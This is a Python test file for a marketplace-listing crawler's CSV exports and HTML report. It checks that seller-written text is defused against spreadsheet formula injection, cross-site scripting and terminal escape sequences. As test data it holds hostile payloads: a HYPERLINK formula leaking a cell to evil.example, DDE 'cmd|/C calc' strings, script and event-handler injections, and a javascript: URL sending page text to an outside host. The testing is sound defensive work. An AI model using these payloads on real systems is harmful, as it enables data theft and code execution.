"""Exports and the report against hostile listings: sellers write titles, descriptions, seller
names and URLs, and an analyst opens what thriftwatch writes in a spreadsheet or a browser.

CSV cells that a spreadsheet could run as a formula get a leading ``'`` (JSON Lines stays
exact); the HTML report escapes every value, links only http(s) URLs, and forbids scripts
with a Content-Security-Policy.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import unicodedata
import zipfile
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler.evidence.bundle import write_bundle
from crawler.evidence.export import write_records
from crawler.evidence.store import EXPORT_FIELDS, EvidenceStore
from crawler.ops.report import gather, render, safe_href

# -- CSV formula injection -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    "-",
    "-50000",  # text, not a number: the seller typed it
    " =1+1",  # a space, which some spreadsheets trim
    "\xa0=1+1",  # NBSP
    "\u3000+1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(1)",  # byte order mark
    "\u202e=1+1",  # right-to-left override
    "\n=1+1",
    " \t \r\n-1+1",
    "\uff1d1+1",  # full-width =
]
TEXT_FIELDS = ("platform", "listing_id", "url", "title", "description", "price_text",
               "currency", "seller_id", "seller_name", "seller_url", "location", "category",
               "condition", "posted_at", "keyword", "level", "lexicon_version",
               "capture_sha256", "screenshot_sha256")
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _record(text: str = "Balpres jaket korea", **fields: Any) -> dict[str, Any]:
    """An export record (as ``EvidenceStore.export_records`` gives one) with ``text`` in every
    text field."""
    record: dict[str, Any] = dict.fromkeys(TEXT_FIELDS, text)
    record.update(price_idr=8_000_000, sold_count=3, rating=4.5, first_seen="2026-11-29",
                  last_seen="2026-11-30", image_urls=[text], imported=None, flagged=True,
                  score=0.9, reasons=[{"rule": f"term:{text}", "matched": text, "weight": 0.9}])
    assert set(record) == set(EXPORT_FIELDS)
    return {**record, **fields}


def _csv_rows(records: list[dict[str, Any]]) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_records(records, out, "csv")
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def _starts_a_formula(cell: str) -> bool:
    """Would a spreadsheet run ``cell``? OWASP's list, and a formula start after any leading
    spaces, controls or invisible characters (this test's own reading, not the module's)."""
    if cell.startswith(OWASP_STARTS):
        return True
    shown = cell.lstrip("".join(chr(c) for c in range(33)) + "\x7f\xa0\u3000\u200b\ufeff\u202e")
    return shown[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_text_cell_that_could_start_a_formula_is_quoted(formula):
    [row] = _csv_rows([_record(formula)])
    for name in TEXT_FIELDS:
        assert row[name] == "'" + formula, name
    assert not _starts_a_formula(row["title"])


def test_hostile_titles_descriptions_sellers_and_urls_are_defused_cell_by_cell():
    records = [_record(title=f, description=f"{f}\nmore", seller_name=f, url=f, seller_url=f)
               for f in FORMULAS]
    rows = _csv_rows(records)
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for name in ("title", "seller_name", "url", "seller_url"):
            assert row[name] == "'" + formula
        assert row["description"] == f"'{formula}\nmore"
        assert not any(_starts_a_formula(cell) for cell in row.values())


def test_harmless_text_and_json_cells_are_written_as_they_are():
    [row] = _csv_rows([_record("Kemeja flanel 2+1 = murah", image_urls=["=evil", "-x"])])
    assert row["title"] == "Kemeja flanel 2+1 = murah"
    assert json.loads(row["image_urls"]) == ["=evil", "-x"]
    assert json.loads(row["reasons"])[0]["rule"] == "term:Kemeja flanel 2+1 = murah"
    assert row["flagged"] == "true"


def test_numbers_stay_numbers_even_when_negative():
    [row] = _csv_rows([_record(price_idr=-5, sold_count=-1, rating=-1.5, score=-0.25)])
    assert (row["price_idr"], row["sold_count"], row["rating"], row["score"]) == (
        "-5", "-1", "-1.5", "-0.25")


def test_jsonl_keeps_hostile_text_exact():
    records = [_record(f) for f in FORMULAS]
    out = io.StringIO(newline="")
    assert write_records(records, out, "jsonl") == len(records)
    lines = out.getvalue().split("\n")
    assert lines.pop() == ""
    assert lines == [json.dumps(r, ensure_ascii=False) for r in records]
    assert [json.loads(line) for line in lines] == records


def _listing(listing_id: str, **fields: Any) -> dict[str, Any]:
    base = {"platform": "tokopedia", "listing_id": listing_id,
            "url": f"https://www.tokopedia.com/s/{listing_id}", "title": "Balpres jaket korea",
            "keyword": "balpres", "price_idr": 8_000_000, "image_urls": [], "imported": None,
            "flagged": True, "score": 0.9, "level": "strong", "lexicon_version": "test",
            "reasons": [{"rule": "term:balpres", "matched": "balpres", "weight": 0.9}]}
    return {**base, **fields}


def test_the_case_bundle_csv_is_defused_too(tmp_path):
    store = EvidenceStore(tmp_path / "evidence.db")
    try:
        run = store.start_run(platform="tokopedia", keywords=["balpres"])
        store.add_observations(run, [
            _listing(str(i), title=f, description=f, seller_name=f, seller_url=f, url=f)
            for i, f in enumerate(FORMULAS)])
        store.end_run(run, status="finished", stats={})
        write_bundle(store, tmp_path / "case.zip", {})
    finally:
        store.close()
    with zipfile.ZipFile(tmp_path / "case.zip") as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("listings.csv").decode(),
                                               newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        formula = FORMULAS[int(row["listing_id"])]
        for name in ("title", "description", "seller_name", "seller_url", "url"):
            assert row[name] == "'" + formula
        assert not any(_starts_a_formula(cell) for cell in row.values())


# C0 and C1 controls and DEL but tab, CR and LF: what could drive a terminal showing a CSV.
TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _escaped(text: str) -> str:
    return TERMINAL_CONTROLS.sub(lambda found: f"\\x{ord(found[0]):02x}", text)


# Any text, and text made to start like a formula, with whatever spreadsheets may skip first.
HOSTILE_TEXT = st.one_of(
    st.text(),
    st.builds(lambda lead, start, rest: lead + start + rest,
              st.text(alphabet=" \t\r\n\xa0\u3000\u200b\ufeff\u202e\x00\x0b", max_size=3),
              st.sampled_from(["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]),
              st.text()),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=HOSTILE_TEXT)
def test_no_csv_cell_starts_a_formula_and_jsonl_stays_exact(text):
    record = _record(text)
    [row] = _csv_rows([record])
    shown = _escaped(text)  # control characters but tab, CR and LF are written as \xNN
    for name in TEXT_FIELDS:
        cell = row[name]
        assert cell in (shown, "'" + shown)
        assert not TERMINAL_CONTROLS.search(cell)
        assert not _starts_a_formula(cell)
        assert not cell.startswith(OWASP_STARTS)
    out = io.StringIO(newline="")
    write_records([record], out, "jsonl")
    assert out.getvalue() == json.dumps(record, ensure_ascii=False) + "\n"
    assert json.loads(out.getvalue()) == record


@settings(deadline=None)
@given(number=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_are_never_quoted(number):
    [row] = _csv_rows([_record(price_idr=number, rating=number)])
    assert type(number)(row["price_idr"]) == number
    assert type(number)(row["rating"]) == number


# -- the HTML report -------------------------------------------------------------------------

UNSAFE_URLS = [
    "javascript:fetch('http://evil/'+document.body.innerText)",
    "JaVaScRiPt:alert(1)",
    " JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "\u3000javascript:alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/steal",
    "/relative/path",
    "https:\\\\evil.example",
    "https:evil.example",
    "https:///evil.example",
    "http://exa mple.com/",
    '"><script>alert(1)</script>',
]
SAFE_URLS = [
    "https://www.tokopedia.com/s/p?a=1&b=2",
    "HTTPS://www.lazada.co.id/x",
    'http://shop.example/"><script>alert(1)</script>',
]
HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><a href=javascript:alert(1)>x</a>",
    "</title><script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "<style>*{background:url(http://evil.example/)}</style>",
]


class _Page(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, the text, and the styles."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        (self.styles if self._in_style else self.text).append(data)


def _parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


def _browser_scheme(href: str) -> str:
    """The scheme a browser would see: it drops leading and trailing C0 controls and spaces,
    and every tab and newline, before it reads the URL."""
    cleaned = re.sub(r"[\t\n\r]", "", href.strip("".join(chr(c) for c in range(33))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return match[1].lower() if match else ""


@pytest.fixture
def hostile_db(tmp_path):
    """An evidence DB whose listings, run stats, health and rechecks are all seller-made."""
    path = tmp_path / "evidence.db"
    store = EvidenceStore(path)
    try:
        run = store.start_run(platform="tokopedia", keywords=["balpres"])
        listings = [_listing(f"u{i}", url=url, title=HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)])
                    for i, url in enumerate(UNSAFE_URLS + SAFE_URLS)]
        listings += [_listing(f"t{i}", title=text, seller_name=text, seller_id=text,
                              location=text, price_idr=None, capture_sha256=text,
                              reasons=[{"rule": f"term:{text}", "matched": text, "weight": 0.9}])
                     for i, text in enumerate(HOSTILE_TEXTS)]
        store.add_observations(run, listings)
        store.end_run(run, status="finished", stats={
            "item_scraped_count": "<script>alert('stats')</script>",
            "thriftwatch/flagged": "<img src=x onerror=alert(1)>"})
        store.add_run_health(run, platform="tokopedia", status='ok" onmouseover="alert(1)',
                             findings=[{"check": "<script>alert('finding')</script>"}])
        store.add_recheck(run, {"platform": "<script>alert('recheck')</script>",
                                "listing_id": "u0", "url": UNSAFE_URLS[0], "status": "live"})
    finally:
        store.close()
    return path


def _report(db, serve_url: str = "http://127.0.0.1:8001", db_name: str = "evidence.db") -> str:
    store = EvidenceStore(db)
    try:
        data = gather(store, None)
    finally:
        store.close()
    return render(data, db_name, serve_url)


def test_only_http_and_https_urls_become_links(hostile_db):
    page = _parse(_report(hostile_db))
    hrefs = [attrs["href"] for tag, attrs in page.tags if "href" in attrs]
    assert hrefs
    assert all(_browser_scheme(href or "") in ("http", "https") for href in hrefs), hrefs
    assert all(re.match(r"https?://", href or "", re.IGNORECASE) for href in hrefs)
    assert set(SAFE_URLS) <= set(hrefs)
    assert not set(UNSAFE_URLS) & set(hrefs)
    shown = "".join(page.text)
    assert "javascript:fetch('http://evil/'+document.body.innerText)" in shown  # as text


def test_every_link_is_noopener_noreferrer(hostile_db):
    links = [attrs for tag, attrs in _parse(_report(hostile_db)).tags if tag == "a"]
    assert links
    assert all({"noopener", "noreferrer"} <= set((a.get("rel") or "").split()) for a in links)


def test_no_script_no_event_handler_and_every_value_is_text(hostile_db):
    html = _report(hostile_db)
    page = _parse(html)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "base", "form", "link"}
    assert [tag for tag in page.tags if tag[0] == "style"] == [("style", {})]
    attributes = {name for _, attrs in page.tags for name in attrs}
    assert not [name for name in attributes if name.lower().startswith("on")]
    assert "<script" not in html.lower()
    assert all(attrs.get("class") in (None, "", "ok", "warning", "failing", "empty", "chart",
                                      "grid", "small", "unlinked")
               for _, attrs in page.tags)
    shown = "".join(page.text)
    for text in [*HOSTILE_TEXTS, "<script>alert('stats')</script>",
                 "<script>alert('finding')</script>"]:
        assert text in shown  # shown, as text


def test_the_page_forbids_scripts_with_a_content_security_policy(hostile_db):
    html = _report(hostile_db)
    page = _parse(html)
    metas = [attrs for tag, attrs in page.tags if tag == "meta"
             and (attrs.get("http-equiv") or "").lower() == "content-security-policy"]
    assert len(metas) == 1
    policy = {d.split()[0]: d.split()[1:] for d in (metas[0]["content"] or "").split(";")
              if d.strip()}
    assert policy["default-src"] == ["'none'"]
    assert "script-src" not in policy
    assert policy["base-uri"] == ["'none'"]
    # The policy comes before anything it governs: only <meta charset> precedes it.
    assert [tag for tag, _ in page.tags][:4] == ["html", "head", "meta", "meta"]
    assert page.tags[2][1] == {"charset": "utf-8"}
    # The report's own stylesheet is the one the policy allows.
    [style] = page.styles
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy["style-src"] == [f"'sha256-{digest}'"]


def test_an_unsafe_serve_url_and_db_name_are_text_too(hostile_db):
    html = _report(hostile_db, serve_url="javascript:alert(1)//",
                   db_name="\"><script>alert('db')</script>.db")
    page = _parse(html)
    hrefs = [attrs["href"] or "" for _, attrs in page.tags if "href" in attrs]
    assert all(_browser_scheme(href) in ("http", "https") for href in hrefs)
    assert "<script" not in html.lower()


def test_capture_links_carry_the_digest_url_encoded(hostile_db):
    page = _parse(_report(hostile_db))
    captures = [attrs["href"] or "" for _, attrs in page.tags
                if "/-/capture/" in (attrs.get("href") or "")]
    assert captures
    for href in captures:
        digest = href.split("/-/capture/", 1)[1]
        assert re.fullmatch(r"[A-Za-z0-9%._~-]*", digest), href


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_safe_href_refuses(url):
    assert safe_href(url) is None


@pytest.mark.parametrize("url", SAFE_URLS)
def test_safe_href_accepts(url):
    assert safe_href(url) == url


@given(url=st.text())
def test_safe_href_never_passes_a_non_web_scheme(url):
    href = safe_href(url)
    assert href is None or (
        _browser_scheme(href) in ("http", "https")
        and not any(unicodedata.category(c)[0] in "CZ" for c in href))


# -- formula starts beyond ASCII, and terminal control characters ----------------------------

NEW_STARTS = ["\ufe62", "\ufe63", "\ufe66", "\ufe6b", "\u2212", "\uff1d", "\uff0b", "\uff0d",
              "\uff20", "\u207a", "\u207c", "\u208a", "\u208c", "\u207b", "\u208b"]


@pytest.mark.parametrize("start", NEW_STARTS)
def test_small_full_width_and_minus_sign_formula_starts_are_quoted(start):
    for text in (f"{start}1+1", f' \u200b{start}HYPERLINK("http://evil/")'):
        [row] = _csv_rows([_record(text)])
        for name in TEXT_FIELDS:
            assert row[name] == "'" + text, (name, start)


def test_every_character_that_folds_into_a_formula_start_is_quoted():
    """Whatever Unicode's compatibility folding (NFKC, which spreadsheets and input methods
    apply) turns into = + - @ or the minus sign starts a formula here too."""
    import sys

    from crawler.evidence.export import looks_like_formula

    folding = [chr(code) for code in range(sys.maxunicode + 1)
               if unicodedata.normalize("NFKC", chr(code))[:1] in ("=", "+", "-", "@", "\u2212")]
    assert len(folding) > 15
    assert [c for c in folding if not looks_like_formula(f"{c}1")] == []


@pytest.mark.parametrize(("text", "cell"), [
    ("\x1b]0;owned\x07Balpres", "\\x1b]0;owned\\x07Balpres"),  # OSC: sets a terminal's title
    ("Balpres \x1b[2J\x1b[31mkorea", "Balpres \\x1b[2J\\x1b[31mkorea"),  # clear screen, red
    ("Balpres \x9b31mkorea", "Balpres \\x9b31mkorea"),  # C1 CSI
    ("a\x00b\x08c\x7fd\x85e", "a\\x00b\\x08c\\x7fd\\x85e"),
    ("line one\nline two\ttab\r\nthree", "line one\nline two\ttab\r\nthree"),  # CSV's own
    ("\x1b=1+1", "\\x1b=1+1"),  # no longer a formula once the ESC is visible
])
def test_control_characters_are_written_visibly_so_no_terminal_is_driven(text, cell):
    [row] = _csv_rows([_record(text)])
    for name in ("title", "description", "seller_name", "url", "location"):
        assert row[name] == cell
    assert json.loads(row["image_urls"]) == [text]  # JSON in a cell: its own escapes
    assert not TERMINAL_CONTROLS.search(row["image_urls"])
    out = io.StringIO(newline="")
    write_records([_record(text)], out, "jsonl")
    assert json.loads(out.getvalue())["title"] == text  # JSON Lines stays exact


def test_a_csv_export_of_seller_text_with_escapes_holds_no_control_character(tmp_path):
    from tests.helpers import run_command

    db = tmp_path / "evidence.db"
    store = EvidenceStore(db)
    run = store.start_run(platform="tokopedia", keywords=["balpres"])
    store.add_observations(run, [_listing("1", title="Balpres\x1b[8m hidden \x9b0m",
                                          seller_name="\ufe66HYPERLINK(1)")])
    store.end_run(run, status="finished", stats={})
    store.close()
    exported = run_command("thriftwatch", "export", "--db", str(db), "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    assert not TERMINAL_CONTROLS.search(exported.stdout)
    [row] = csv.DictReader(io.StringIO(exported.stdout, newline=""))
    assert row["title"] == "Balpres\\x1b[8m hidden \\x9b0m"
    assert row["seller_name"] == "'\ufe66HYPERLINK(1)"
